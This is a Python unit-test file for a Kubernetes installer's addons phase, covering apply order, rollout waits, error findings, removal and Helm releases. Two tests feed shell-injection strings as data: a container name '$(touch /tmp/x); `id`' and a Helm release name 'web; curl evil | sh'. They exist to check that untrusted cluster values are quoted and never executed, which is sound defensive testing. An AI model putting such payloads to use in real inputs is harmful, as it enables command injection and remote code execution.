"""The phase addons over played connections: order, waits, failures, removal."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

import pytest

from kubeinstall.addons.objects import PART_OF, Object, apply_set
from kubeinstall.addons.parents import parent
from kubeinstall.findings import Kind, KubeinstallError
from kubeinstall.inventory.catalogue.model import Stage
from kubeinstall.inventory.model import Cluster
from kubeinstall.phases import addons, network
from kubeinstall.phases.addons import rollout
from tests.unit.addon_folders import applied, deployment, folder, rendered, with_addons
from tests.unit.clusters import cluster
from tests.unit.played_addons import again, session_of, started
from tests.unit.waiting_pods import pod

pytestmark = pytest.mark.unit


@pytest.fixture(autouse=True)
def _no_pause(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rollout, "_PAUSE", 0)


def test_an_addon_comes_after_those_it_needs_and_a_second_run_does_nothing(tmp_path: Path) -> None:
    folder(tmp_path, "shop", needs=["base"], notices=["open {{ namespace }}"])
    folder(tmp_path, "base")
    run, _, memory = started(with_addons(tmp_path, shop={}, base={}))
    addons.run(run)
    assert memory.done == ["Apply base 1.0", "Apply shop 1.0"]
    assert memory.notes == ["shop: open shop"]
    again(run, memory)
    questions = len(session_of(run).asked)
    addons.run(run)
    assert memory.done == []
    asked = [command for _, command in session_of(run).asked[questions:]]
    assert asked
    assert memory.notes == [], "notices were reported when the addon was applied"
    assert all("configmaps" in command for command in asked), "all is known from the one fact"


def test_what_is_not_ready_is_told_with_its_pod_and_stops_what_needs_it(
    tmp_path: Path,
) -> None:
    folder(tmp_path, "shop", needs=["base"])
    folder(tmp_path, "base")
    folder(tmp_path, "other")
    choices = {"base": {"timeout": 10}, "shop": {}, "other": {}}
    run, server, memory = started(with_addons(tmp_path, **choices), broken=["base"])
    server.pods = [pod("base-1", "ImagePullBackOff", "Back-off", app="base")]
    server.pods[0]["metadata"]["namespace"] = "base"
    clock = iter(range(0, 1000, 4))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(rollout, "time", SimpleNamespace(monotonic=lambda: next(clock), sleep=int))
        with pytest.raises(KubeinstallError) as error:
            addons.run(run)
    assert error.value.exit_code == Kind.CLUSTER
    late, blocked = error.value.findings
    assert late.what == "addon base: Deployment base/base is not ready after 10 s"
    assert late.why == (
        "0 of 1 pods are available; pod base/base-1: ImagePullBackOff: Back-off; "
        "Failed: Failed to pull image: no such host"
    )
    assert "describe pod base-1" in late.next
    assert (blocked.what, blocked.why) == (
        "addon shop was not applied",
        "it needs base, which is not ready",
    )
    assert memory.done == ["Apply base 1.0", "Apply other 1.0"]
    assert "base: Deployment base/base: 0 of 1 pods" in memory.waits[0]


def test_an_image_that_nobody_can_name_ends_the_wait(tmp_path: Path) -> None:
    folder(tmp_path, "base")
    run, server, _ = started(with_addons(tmp_path, base={"timeout": 3600}), broken=["base"])
    server.pods = [pod("base-1", "InvalidImageName", "bad", app="base")]
    server.pods[0]["metadata"]["namespace"] = "base"
    with pytest.raises(KubeinstallError) as error:
        addons.run(run)
    assert error.value.findings[0].what == "addon base: Deployment base/base is not ready"


@pytest.mark.parametrize(
    ("said", "then"),
    [
        ('The Deployment "base" is invalid: spec.replicas: -1', "addon render base"),
        ('failed calling webhook "x"', "the pods of that webhook"),
        ('no matches for kind "Thing" in version "a/v1"', "addon that provides this kind"),
        ("spec.selector: field is immutable", "delete the object"),
        ("error: timed out waiting for the condition on things/a", "finalizer"),
    ],
)
def test_what_is_refused_is_told_and_the_others_go_on(tmp_path: Path, said: str, then: str) -> None:
    folder(tmp_path, "base")
    folder(tmp_path, "other")
    run, _, memory = started(with_addons(tmp_path, base={}, other={}), refuses={"base": said})
    with pytest.raises(KubeinstallError) as error:
        addons.run(run)
    finding = error.value.findings[0]
    assert (finding.what, finding.why) == ("addon base could not be applied", said)
    assert then in finding.next
    assert memory.done == ["Apply other 1.0"]


def test_what_others_changed_is_told_and_taken_back(tmp_path: Path) -> None:
    folder(tmp_path, "base", deployment("base", 2))
    run, server, memory = started(with_addons(tmp_path, base={}))
    addons.run(run)
    server.objects[-1]["spec"]["replicas"] = 5
    again(run, memory)
    addons.run(run)
    assert memory.notes[-1] == (
        "base: spec.replicas of Deployment base/base is 5, set by an unknown manager: reset to 2"
    )
    assert memory.done == [
        "Revert spec.replicas of Deployment base/base, set by an unknown manager",
    ]


def test_addons_that_are_named_no_more_go_those_that_need_others_first(tmp_path: Path) -> None:
    folder(tmp_path, "shop", needs=["base"])
    folder(tmp_path, "base")
    both = with_addons(tmp_path, base={}, shop={})
    run, server, memory = started(both)
    addons.run(run)
    server.parents["net"] = parent("net", "1", Stage.NETWORK, [])
    again(run, memory)
    again(run, memory, with_addons(tmp_path))
    addons.run(run)
    assert memory.done == ["Remove shop", "Remove base"]
    assert list(server.parents) == ["net"], "pod networks are another phase's"
    assert memory.notes[-1] == "base: namespace x stays, because it contains y"


def of_helm(made: Cluster, release: str) -> Object:
    """The last object of the first addon, as a Helm release has it."""
    theirs = applied(rendered(made)[0].objects[-1])
    theirs["metadata"] |= {
        "labels": {},
        "annotations": {"meta.helm.sh/release-name": release},
        "managedFields": [],
    }
    return theirs


def test_a_helm_release_is_left_alone(tmp_path: Path) -> None:
    folder(tmp_path, "base")
    made = with_addons(tmp_path, base={})
    run, server, memory = started(made)
    server.objects = [of_helm(made, "web")]
    server.parents = {"other": parent("other", "1", Stage.ADDONS, [])}
    with pytest.raises(KubeinstallError) as error:
        addons.run(run)
    assert error.value.findings[0].why == "Deployment base/base belongs to the Helm release web"
    assert memory.done == ["Remove other"]


def test_an_api_server_that_does_not_tell_ends_the_phase(tmp_path: Path) -> None:
    folder(tmp_path, "base")
    run, server, memory = started(with_addons(tmp_path, base={}))
    server.error = "Unable to connect to the server"
    with pytest.raises(KubeinstallError) as error:
        addons.run(run)
    assert error.value.findings[0].why == "Unable to connect to the server"
    assert memory.done == []


def test_a_plan_waits_for_nothing(tmp_path: Path) -> None:
    folder(tmp_path, "shop", needs=["base"])
    folder(tmp_path, "base")
    run, _, memory = started(with_addons(tmp_path, base={}, shop={}), broken=["base"])
    run.dry = True
    addons.run(run)
    assert memory.done == ["Apply base 1.0", "Apply shop 1.0"]
    assert memory.waits == []


def test_nothing_is_done_beside_the_limit(tmp_path: Path) -> None:
    folder(tmp_path, "base")
    run, _, memory = started(with_addons(tmp_path, base={}))
    run.limit = frozenset({"w1"})
    addons.run(run)
    assert (memory.done, addons.deploys(run)) == ([], {})


def test_what_two_addons_share_is_not_removed_with_one(tmp_path: Path) -> None:
    folder(tmp_path, "one", namespace="both")
    folder(tmp_path, "two", namespace="both")
    run, server, memory = started(with_addons(tmp_path, one={}, two={}))
    addons.run(run)
    again(run, memory, with_addons(tmp_path, two={}))
    addons.run(run)
    left = {o["metadata"]["name"]: o["metadata"]["labels"][PART_OF] for o in server.objects}
    assert left["both"] == apply_set("two")
    assert "one" not in left
    again(run, memory)
    addons.run(run)
    assert memory.done == []


def test_a_secret_of_the_users_own_is_used(tmp_path: Path) -> None:
    folder(tmp_path, "base", generated_secrets=[{"name": "login", "keys": {"password": 24}}])
    run, server, memory = started(with_addons(tmp_path, base={}))
    own = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "login", "namespace": "base"},
    }
    server.parents = {"other": parent("other", "1", Stage.NETWORK, [])}
    server.others = [own]
    addons.run(run)
    assert (memory.done, server.secrets) == (["Apply base 1.0"], [])
    server.others = []
    addons.run(run)
    assert server.secrets == ["login"]


def test_what_is_kept_of_an_addon_and_cannot_be_read_stops_only_that_addon(tmp_path: Path) -> None:
    for name in ("base", "gone", "other"):
        folder(tmp_path, name)
    run, server, memory = started(with_addons(tmp_path, base={}, gone={}))
    addons.run(run)
    for name in ("base", "gone"):
        server.parents[name] |= {"data": {"objects": "{"}}
    again(run, memory)
    again(run, memory, with_addons(tmp_path, base={}, other={}))
    with pytest.raises(KubeinstallError) as error:
        addons.run(run)
    assert [f.what for f in error.value.findings] == [
        "addon gone was not removed",
        "addon base was not applied",
    ]
    assert error.value.findings[1].next == (
        "on cp1: /usr/bin/kubectl --kubeconfig /etc/kubernetes/admin.conf --request-timeout=15s "
        "-n kube-system edit configmap kubeinstall-addon-base"
    )
    assert memory.done == ["Apply other 1.0"]


def test_what_a_kubelet_calls_a_container_is_no_shell(tmp_path: Path) -> None:
    """A kubelet writes the status of its pods as it likes."""
    folder(tmp_path, "base")
    run, server, _ = started(with_addons(tmp_path, base={}), broken=["base"])
    evil = pod("base-1", "InvalidImageName", "bad", app="base")
    evil["metadata"]["namespace"] = "base"
    evil["status"]["containerStatuses"][0] |= {
        "name": "$(touch /tmp/x); `id`",
        "lastState": {"terminated": {"exitCode": 1}},
    }
    server.pods = [evil]
    with pytest.raises(KubeinstallError):
        addons.run(run)
    [script] = [command for _, command in session_of(run).asked if "get events" in command]
    assert " -c '$(touch /tmp/x); `id`' " in script


def test_a_helm_release_with_another_name_than_helm_gives_is_none(tmp_path: Path) -> None:
    folder(tmp_path, "base")
    made = with_addons(tmp_path, base={})
    run, server, memory = started(made)
    server.others = [of_helm(made, "web; curl evil | sh")]
    server.parents = {"other": parent("other", "1", Stage.NETWORK, [])}
    addons.run(run)
    assert memory.done == ["Apply base 1.0"]


def test_a_kind_that_only_the_api_server_knows_is_left_alone_by_a_second_run(
    tmp_path: Path,
) -> None:
    pool = {"apiVersion": "example.org/v1", "kind": "Pool", "metadata": {"name": "p"}}
    folder(tmp_path, "base", deployment("base"), pool)
    run, server, memory = started(with_addons(tmp_path, base={}))
    addons.prepare(run)
    server.served = "pools   example.org/v1   false   Pool"
    addons.run(run)
    assert [o["metadata"].get("namespace") for o in server.objects if o["kind"] == "Pool"] == [None]
    again(run, memory)
    addons.run(run)
    assert memory.done == []


def test_the_pod_networks_addon_is_the_network_phases() -> None:
    run, _, memory = started(cluster(workers=0, network={"plugin": "flannel"}))
    run.dry = True
    addons.run(run)
    assert memory.done == []
    network.run(run)
    assert [name.split()[:2] for name in memory.done] == [["Apply", "flannel"]]
